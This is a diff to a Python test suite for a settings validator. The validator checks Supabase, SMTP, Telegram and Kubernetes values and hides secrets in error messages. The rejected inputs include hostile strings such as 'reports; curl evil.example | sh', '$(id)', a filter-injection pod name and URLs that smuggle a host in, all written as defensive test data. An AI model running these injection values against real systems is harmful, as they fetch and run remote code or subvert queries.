@@ -1,5 +1,6 @@
 """Settings are checked whole, and no error repeats a value."""
 
+import subprocess
 import traceback
 from pathlib import Path
 from typing import Any
@@ -14,7 +15,7 @@ from src.errors import SettingsError
 
 WHOLE = {
     "SUPABASE_URL": "https://abcdefgh.supabase.co",
-    "SUPABASE_KEY": "sb_secret_0123456789",
+    "SUPABASE_KEY": "sb_secret_0123456789ab",
     "SMTP_HOST": "smtp.example.com",
     "SMTP_USER": "reports@example.com",
     "SMTP_PASSWORD": "correct horse battery",
@@ -62,8 +63,12 @@ def test_everything_missing_is_named_at_once_one_line_a_variable(environment: py
         ("SUPABASE_URL", "ftp://abcdefgh.supabase.co", "is not a whole https:// address"),
         ("SUPABASE_URL", "https://abcdefgh.supabase.co:port", "is not a whole https:// address"),
         ("SUPABASE_URL", "https://me:word@abcdefgh.supabase.co", "carries more than an address"),
-        ("SUPABASE_KEY", "sb_secret_01 23", "contains blanks or unusual characters"),
+        ("SUPABASE_KEY", "sb_secret_01234 6789ab", "is shorter than 20 characters, or contains blanks or unusual ones"),
+        ("SUPABASE_KEY", "sb_secret_012345678", "is shorter than 20 characters, or contains blanks or unusual ones"),
         ("SUPABASE_TABLE", "public.analyses", "is not a table's name"),
+        ("SUPABASE_JWT", "sb_secret_0123456789", "is no JWT (three parts, dots between)"),
+        ("SUPABASE_JWT", "eyJh.eyJi", "is no JWT (three parts, dots between)"),
+        ("SUPABASE_JWT", "eyJh.eyJi.c+c=", "is no JWT (three parts, dots between)"),
         ("REPORT_CHANNELS", "email,fax", "is none of them"),
         ("REPORT_CHANNELS", ",", "should have at least 1 item"),
         ("SMTP_HOST", "https://smtp.example.com", "is not a plain host name"),
@@ -104,6 +109,31 @@ def test_everything_missing_is_named_at_once_one_line_a_variable(environment: py
         ("SUPABASE_URL", "http://rest.example.com", "is http:// to another machine"),
         ("SUPABASE_URL", "http://10.0.0.7:8000", "is http:// to another machine"),
         ("TELEGRAM_API_URL", "http://bot-api:8081", "is http:// to another machine"),
+        ("TELEGRAM_API_URL", "http://x.localhost:8081", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://127.1:8000", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://localhost.:8000", "is http:// to another machine"),
+        ("SUPABASE_URL", "http://[::ffff:127.0.0.1]:8000", "is http:// to another machine"),
+        ("HEARTBEAT_URL", "http://ping.localhost/0123", "is http:// to another machine"),
+        ("SUPABASE_URL", "https://:word@abcdefgh.supabase.co", "carries more than an address"),
+        ("SUPABASE_URL", "https://@abcdefgh.supabase.co", "carries more than an address"),
+        ("SUPABASE_URL", "http://localhost@evil.example", "carries more than an address"),
+        ("SUPABASE_URL", "http://evil.example\\@localhost", "carries more than an address"),
+        ("SUPABASE_URL", "https://abcdefgh.supabase.co?", "carries more than an address"),
+        ("SUPABASE_URL", "https://abcdefgh.supabase.co/a\tb", "is not a whole https:// address"),
+        ("HEARTBEAT_URL", "https://:word@hc-ping.com/0123", "carries more than an address"),
+        ("TELEGRAM_API_URL", "https://:word@api.telegram.org", "carries more than an address"),
+        ("JOB_NAME", "Reports", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports; curl evil.example | sh", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "$(id)", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "reports-", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", "a..b", "is not a Job's name in Kubernetes"),
+        ("JOB_NAME", 64 * "a", "is not a Job's name in Kubernetes"),
+        ("POD_NAME", 'pod",lease_until.gt.now,holder.eq."', "is not a pod's name in Kubernetes"),
+        ("POD_NAME", "pod_1", "is not a pod's name in Kubernetes"),
+        ("POD_NAME", 254 * "a", "is not a pod's name in Kubernetes"),
+        ("POD_NAMESPACE", "team.production", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", "production -o yaml", "is not a namespace in Kubernetes"),
+        ("POD_NAMESPACE", 64 * "a", "is not a namespace in Kubernetes"),
         ("SMTP_USER", "your-email@gmail.com", "is still the placeholder"),
         ("SMTP_PASSWORD", "your-app-password", "is still the placeholder"),
         ("SUPABASE_KEY", "change-me", "is still the placeholder"),
@@ -285,6 +315,7 @@ def test_a_misspelt_variable_is_named_with_the_one_that_was_meant(
 ) -> None:
     """In the environment as in the file; what belongs to other programs is left alone."""
     (tmp_path / ".env").write_text("SMTP_PROT=587\n")
+    (tmp_path / ".env").chmod(0o600)
     environment.setenv("REPORT_TIMEZOME", "Europe/Berlin")
     environment.setenv("SUPABASE_DB_URL", "postgres://")
     environment.setenv("SMTP_RELAY_FOR_ANOTHER", "x")
@@ -373,3 +404,139 @@ def test_unusual_hours_are_told_to_an_alert_chat_of_its_own(
     telegram = checked_settings(None).telegram
     assert telegram
     assert telegram.unusual_chat == told
+
+
+def test_a_secret_key_beside_a_token_is_a_hint(environment: pytest.MonkeyPatch) -> None:
+    """The token was made so that the secret key need not be here."""
+    environment.setenv("SUPABASE_JWT", "eyJh.eyJi.c-_9")
+    with_secret = load_settings(None)
+    environment.setenv("SUPABASE_KEY", "sb_publishable_0123456789")
+
+    assert (with_secret.hints, with_secret.problems) == (
+        ["SUPABASE_JWT makes a secret key needless: set SUPABASE_KEY to the publishable one."],
+        [],
+    )
+    assert load_settings(None).hints == []
+
+
+def test_a_tokens_signature_is_a_secret_of_its_own(environment: pytest.MonkeyPatch) -> None:
+    """What stands before it can be guessed, and nobody needs it from elsewhere."""
+    environment.setenv("SUPABASE_JWT", "eyJh.eyJi.c-_9")
+
+    secrets = load_settings(None).secrets()
+
+    assert {WHOLE["SUPABASE_KEY"], "eyJh.eyJi.c-_9", "c-_9"} <= set(secrets)
+
+
+@pytest.mark.parametrize("mode", [0o644, 0o640, 0o602, 0o600, 0o400])
+def test_a_file_of_settings_that_others_may_read_is_named_with_the_command_that_closes_it(
+    environment: pytest.MonkeyPatch, tmp_path: Path, mode: int
+) -> None:
+    """Pasted into a shell it works, whatever the folder is called."""
+    environment.setenv("SMTP_PORT", "465")
+    folder = tmp_path / "it's a $(folder)"
+    folder.mkdir()
+    env_file = folder / ".env"
+    env_file.touch()
+    env_file.chmod(mode)
+
+    hints = load_settings(env_file).hints
+
+    if mode & 0o077:
+        (hint,) = hints
+        assert hint.startswith(f"Other users of this machine may read {env_file}. Run: ")
+        subprocess.run(hint.partition(" Run: ")[2], shell=True, check=True, timeout=60)
+        assert load_settings(env_file).hints == []
+        assert env_file.stat().st_mode & 0o777 == 0o600
+    else:
+        assert hints == []
+
+
+def test_every_name_that_kubernetes_gives_is_taken(environment: pytest.MonkeyPatch) -> None:
+    """Up to the longest, with dots where it allows them."""
+    names = {"JOB_NAME": f"1.a-{59 * 'b'}", "POD_NAME": f"{126 * 'a.'}b", "POD_NAMESPACE": f"0-{61 * 'a'}"}
+    for name, value in names.items():
+        environment.setenv(name, value)
+
+    report = checked_settings(None).report
+
+    assert [report.job_name, report.pod_name, report.pod_namespace] == [*names.values()]
+
+
+def test_a_secret_is_known_though_its_group_is_incomplete_or_unused(environment: pytest.MonkeyPatch) -> None:
+    """It may turn up in an error all the same."""
+    environment.delenv("SMTP_HOST")
+    environment.setenv("SUPABASE_URL", "nowhere")
+    environment.setenv("TELEGRAM_BOT_TOKEN", "12345678")
+    environment.setenv("HEARTBEAT_URL", "ftp://hc.example/0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11")
+    whole = load_settings(None).secrets()
+    environment.setenv("REPORT_CHANNELS", "telegram")
+    unused = load_settings(None).secrets()
+
+    for secrets in (whole, unused):
+        assert {WHOLE["SUPABASE_KEY"], WHOLE["SMTP_PASSWORD"], "12345678"} <= {*secrets}
+        assert f"\0{WHOLE['SMTP_USER']}\0{WHOLE['SMTP_PASSWORD']}" in secrets
+        assert "0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11" in secrets
+
+
+def test_a_secret_in_the_env_file_alone_is_known_too(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """As on a developer's machine."""
+    for name in WHOLE:
+        environment.delenv(name)
+    (tmp_path / ".env").write_text("SMTP_PASSWORD='only in the file'\nSMTP_PROT=1\n")
+
+    loaded = load_settings(tmp_path / ".env")
+
+    assert "only in the file" in loaded.secrets()
+    assert "only in the file" not in repr(loaded)
+
+
+@pytest.mark.parametrize("value", ["change-me", "your-app-password", "abc", " "])
+def test_what_is_no_secret_is_not_hidden(environment: pytest.MonkeyPatch, value: str) -> None:
+    """A placeholder or three letters would be hidden in ordinary words."""
+    environment.setenv("SMTP_PASSWORD", value)
+
+    assert not any(value.strip() in secret for secret in load_settings(None).secrets() if value.strip())
+    assert not any("\0" in secret for secret in load_settings(None).secrets())
+
+
+@pytest.mark.parametrize(
+    ("url", "hidden"),
+    [
+        ("https://hc.example/0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11", ["0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11"]),
+        ("https://hc.example/fqOOd6-F4MMNuCEnzTU01w/reports-generator-hourly", ["fqOOd6-F4MMNuCEnzTU01w"]),
+        ("https://up.example/api/push/aB3dE5gH7jK9mN1pQ3sT", ["aB3dE5gH7jK9mN1pQ3sT"]),
+        ("https://hc.example/ping/reports-generator-production-2", []),
+        ("https://hc.example/ping/reports-generator", []),
+        ("https://hc.example/ping/0123abcd", []),
+    ],
+)
+def test_the_secret_part_of_the_monitors_address_is_hidden_alone_but_no_name(
+    environment: pytest.MonkeyPatch, url: str, hidden: list[str]
+) -> None:
+    """A check's name may be the CronJob's, which stands in every command of an alert."""
+    environment.setenv("HEARTBEAT_URL", url)
+
+    secrets = [*dict.fromkeys(load_settings(None).secrets())]
+
+    assert [secret for secret in secrets if secret in url] == [url, *hidden]
+
+
+@pytest.mark.parametrize(("password", "told"), [("sesame", True), ("sesame12", False)])
+def test_a_short_password_is_a_hint(environment: pytest.MonkeyPatch, password: str, told: bool) -> None:
+    """Whoever reads `[hidden]` in place of a common word knows it; a mailbox may want no longer one."""
+    environment.setenv("SMTP_PASSWORD", password)
+
+    loaded = load_settings(None)
+
+    assert loaded.problems == []
+    assert [hint.startswith("SMTP_PASSWORD has fewer than 8 characters") for hint in loaded.hints] == [True] * told
+
+
+def test_a_key_that_is_too_short_for_one_is_exit_2(environment: pytest.MonkeyPatch) -> None:
+    """It is a typing error, and hiding it would hide ordinary words."""
+    environment.setenv("SUPABASE_KEY", "analyses")
+
+    (line,) = problems()
+
+    assert line.startswith("SUPABASE_KEY is shorter than 20 characters")
